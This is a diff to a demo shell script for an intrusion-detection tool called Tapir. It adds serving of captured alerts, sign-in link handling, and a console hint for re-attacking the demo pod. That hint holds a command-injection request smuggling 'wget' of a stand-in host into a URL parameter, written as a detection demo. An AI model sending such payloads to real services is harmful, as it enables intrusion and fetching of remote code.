@@ -177,6 +177,7 @@ start_manager() {
     if came_up "$work/manager.ready"; then
       page=http://$(tr -d '\n' <"$work/manager.ready")
       admin=$(sed -n 's/^admin token: //p' "$work/tokens")
+      link=$(sed -n 's/^sign in, once: //p' "$work/tokens")
       sed -n 's/^agent token: //p' "$work/tokens" >"$work/agent.token"
       return
     fi
@@ -305,6 +306,17 @@ from_capture() {
   done
 }
 
+# The recording's alerts on the page. What it prints are the link that signs in and the token.
+serve_capture() {
+  "$tapir" scan "$here/attacks.pcap" --serve --quiet --format fast --no-summary >/dev/null 2>"$log" &
+  pids+=($!)
+  watcher=$!
+  wait_for "tapir scan --serve" "$log" grep -q '^admin token' "$log"
+  link=$(sed -n 's/^Alerts page, until Ctrl-C: //p' "$log")
+  admin=$(sed -n 's/^admin token.*: //p' "$log")
+  page=${link%%/alerts*}
+}
+
 # --- and so -------------------------------------------------------------------------------------
 
 # Until Ctrl-C; for a while if nobody can press it.
@@ -313,7 +325,8 @@ stay() {
   [ -z "${DEMO_ONCE:-}" ] || return 0
   trap 'say; exit 0' INT TERM HUP
   if [ -t 0 ] || [ -t 1 ]; then
-    say "  It stays until you press Ctrl-C; attack the pod again and watch: ip netns exec $node_ns curl http://$pod:8080/…"
+    say "  It stays until you press Ctrl-C."
+    [ -n "$reason" ] || say "  Attack the pod again and watch: ip netns exec $node_ns curl 'http://$pod:8080/?x=;wget+http://a/b'"
     until=$((SECONDS + 86400))
   else
     say "  No terminal: it stays for ${DEMO_STAY:-300} s."
@@ -326,7 +339,7 @@ stay() {
   done
 }
 
-seen=0 page=
+seen=0 page='' link=''
 say "${bold}Tapir: a workload is attacked${off}"
 reason=$(obstacle)
 if [ -z "$reason" ]; then
@@ -344,10 +357,11 @@ if [ "$seen" != ${#titles[@]} ]; then
 fi
 say "${green}${bold}$seen of ${#titles[@]} attacks seen.${off} ${dim}$how${off}"
 say "Nothing in the pod was changed. To see what a rule looks for: tapir rules explain 21562"
+if [ -z "$page" ] && [ -z "${DEMO_ONCE:-}" ]; then serve_capture; fi
 if [ -n "$page" ]; then
   say
-  say "${bold}The Alerts page${off}  $page/"
+  say "${bold}The Alerts page${off}  ${link:-$page/}"
   say "  token  $admin"
-  say "  Each alert has the bytes that matched, and its rule in words."
+  say "  The link signs in, once; after that the token does. Each alert has the bytes that matched, and its rule in words."
   stay
 fi
